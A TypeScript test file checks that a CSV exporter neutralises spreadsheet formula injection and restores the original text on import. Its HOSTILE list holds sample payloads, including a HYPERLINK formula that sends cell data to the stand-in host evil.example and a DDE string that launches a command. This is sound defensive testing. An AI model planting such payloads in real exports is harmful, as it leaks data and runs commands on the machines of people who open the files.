import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvParseRows } from "d3-dsv";
import { datasetToCsv } from "./csv";
import { neutraliseCsvCell, restoreCsvCell, safeCsvCell } from "./csvSafe";
import { loadText } from "./testLoad";
import type { Dataset } from "../types";
import { parseEdtf } from "../parseEdtf";

/** What a spreadsheet evaluates: a cell whose text (as the spreadsheet reads it) starts a formula. */
const evaluates = (cell: string) => /^[=+\-@\t\r]/.test(cell);

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+2",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\t=1+2",
  "\r=1+2",
  "'=already quoted",
  "''@twice",
  '=1,2\n"line"',
  "plain text = fine",
  "'just an apostrophe",
];

describe("CSV cells a spreadsheet would evaluate", () => {
  it.each(HOSTILE)("%j is written so that no spreadsheet evaluates it, and reads back exactly", (value) => {
    const [cell] = csvParseRows(safeCsvCell(value))[0] ?? [];
    expect(evaluates(cell ?? "")).toBe(false);
    expect(restoreCsvCell(cell ?? "")).toBe(value);
  });

  it("neutralising is a bijection: any text comes back, and no written cell starts a formula", () => {
    const text = fc.string({
      unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "a", ",", '"', "\n", " "),
    });
    fc.assert(
      fc.property(fc.oneof(text, fc.string()), (value) => {
        const written = neutraliseCsvCell(value);
        expect(evaluates(written)).toBe(false);
        expect(restoreCsvCell(written)).toBe(value);
        const [cell] = csvParseRows(safeCsvCell(value))[0] ?? [""];
        expect(restoreCsvCell(cell ?? "")).toBe(value);
      }),
      { numRuns: 3000 },
    );
  });

  it("an exported dataset with formulas in every text field: no cell starts a formula, and import gives the text back", async () => {
    const start = parseEdtf("2025-07-14");
    if (!start.ok) throw new Error(start.message);
    const dataset: Dataset = {
      title: "Formulas",
      description: "",
      lanes: [{ id: "main", label: "=Lane()" }],
      articles: [{ id: "a1", title: "@Article" }],
      events: HOSTILE.filter((h) => h.trim() === h && !h.includes("\n")).map((text, i) => ({
        id: `e${i}`,
        title: text,
        summary: `-${text}`,
        start: start.value,
        end: undefined,
        precision: "day",
        dateBasis: "stated",
        dateNote: `+${text}`,
        lane: "main",
        actors: [text, "@actor"],
        topics: ["=topic"],
        sources: [{ article: "a1", quote: `=${text} quoted`, verified: false }],
        conflict: undefined,
        startMs: start.value.startMs,
        endMs: start.value.endMs,
        isRange: false,
      })),
    };
    const csv = datasetToCsv(dataset);
    for (const row of csvParseRows(csv)) for (const cell of row) expect(evaluates(cell), cell).toBe(false);
    const back = await loadText("events.csv", csv);
    expect(back.issues).toEqual([]);
    const texts = (d: Dataset) =>
      d.events.map((e) => [
        e.title,
        e.summary,
        e.dateNote,
        e.actors,
        e.topics,
        e.sources.map((s) => s.quote),
      ]);
    expect(texts(back.dataset)).toEqual(texts(dataset));
    expect(back.dataset.lanes.map((l) => l.label)).toEqual(["=Lane()"]);
    expect(back.dataset.articles.map((a) => a.title)).toEqual(["@Article"]);
  });
});
